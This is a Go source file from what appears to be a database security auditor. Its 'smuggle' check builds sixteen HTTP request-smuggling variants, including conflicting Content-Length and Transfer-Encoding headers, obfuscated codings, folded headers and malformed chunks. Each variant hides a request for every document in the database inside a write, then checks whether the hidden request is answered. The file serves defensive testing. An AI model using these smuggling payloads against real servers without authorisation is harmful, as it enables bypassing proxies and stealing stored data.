package audit

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"
)

// smuggle hides a stranger's request for all docs in the body of a write, in ways that make two servers see its end at different places,
// and looks whether anybody answers the hidden one, or takes a write that has to be refused.
func (a *auditor) smuggle(ctx context.Context) Finding {
	f := Finding{Method: http.MethodPost, Path: "/{db}", What: "a request hidden in another's body", Spelling: "smuggled", Verdict: Refused}
	db := a.wire.path("/" + url.PathEscape(a.o.DB))
	hidden := a.wire.text(request{method: http.MethodGet, target: db + "/_all_docs?include_docs=true"})
	var taken []string
	for _, s := range a.smuggled(db, hidden) {
		got, err := a.wire.raw(ctx, s.text, http.MethodPost, 3)
		if err != nil {
			continue // no answer is an answer
		}
		if f.Verdict == Refused {
			f.Status = got[0].status
		}
		for i, answer := range got {
			if strings.Contains(answer.body, a.canary) || i > 0 && strings.Contains(answer.body, `"rows"`) {
				f.Status, f.Verdict, f.Detail = answer.status, Leaked, s.name
				return f
			}
		}
		if s.ambiguous && got[0].status >= 200 && got[0].status < 300 {
			f.Status, f.Verdict = got[0].status, Through
			taken = append(taken, s.name)
		}
	}
	if len(taken) > 0 {
		f.Detail = "taken: " + strings.Join(taken, "; ")
	}
	return f
}

// smuggled is a write with a request behind it.
type smuggled struct {
	name      string
	text      string
	ambiguous bool // a server that takes it lets others see another request in it: by RFC 9112 it is an error
}

// smuggled are the forms.
func (a *auditor) smuggled(db, hidden string) []smuggled {
	head := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n", db, a.o.URL.Host)
	if a.o.Authorization != "" {
		head += "Authorization: " + a.o.Authorization + "\r\n"
	}
	length := func(n int) string { return "Content-Length: " + strconv.Itoa(n) + "\r\n" }
	const chunked = "Transfer-Encoding: chunked\r\n"
	doc := fmt.Sprintf(`{"audit":%q}`, a.nonce)
	chunk := fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(doc), doc)
	return []smuggled{
		{"both lengths, chunked counts", head + length(len(chunk+hidden)) + chunked + "\r\n" + chunk + hidden, true},
		{"both lengths, the other first", head + chunked + length(len(chunk)) + "\r\n" + chunk + hidden, true},
		{"two lengths", head + length(len(doc)) + length(len(doc+hidden)) + "\r\n" + doc + hidden, true},
		{"two lengths, the longer first", head + length(len(doc+hidden)) + length(len(doc)) + "\r\n" + doc + hidden, true},
		{"a length with a sign", head + "Content-Length: +" + strconv.Itoa(len(doc)) + "\r\n\r\n" + doc + hidden, true},
		{"a blank before the colon", head + length(len(doc)) + "Transfer-Encoding : chunked\r\n\r\n" + doc + hidden, true},
		{"a blank before the colon, chunked counts", head + length(len(chunk+hidden)) + "Transfer-Encoding : chunked\r\n\r\n" + chunk + hidden, true},
		{"an unknown coding", head + length(len(doc)) + "Transfer-Encoding: xchunked\r\n\r\n" + doc + hidden, true},
		{"an unknown coding, chunked counts", head + length(len(chunk+hidden)) + "Transfer-Encoding: xchunked\r\n\r\n" + chunk + hidden, true},
		{"two codings", head + chunked + "Transfer-Encoding: identity\r\n\r\n" + chunk + hidden, true},
		{"a folded header", head + length(len(chunk+hidden)) + "Transfer-Encoding:\r\n chunked\r\n\r\n" + chunk + hidden, true},
		{"chunks in HTTP/1.0", strings.Replace(head, "HTTP/1.1", "HTTP/1.0", 1) + length(len(doc)) + chunked + "\r\n" + doc + hidden, true},
		{"bare line feeds", strings.ReplaceAll(head+length(len(doc)), "\r\n", "\n") + "\n" + doc + hidden, false},
		{"a chunk's size too long", head + chunked + "\r\n" + "fffffffffffffffff\r\n" + doc + "\r\n0\r\n\r\n" + hidden, true},
		{"a chunk's extension", head + chunked + "\r\n" + fmt.Sprintf("%x;\n%s\r\n%s\r\n0\r\n\r\n", len(doc), hidden, doc), false},
		{"one behind the other", head + length(len(doc)) + "\r\n" + doc + hidden, false},
	}
}
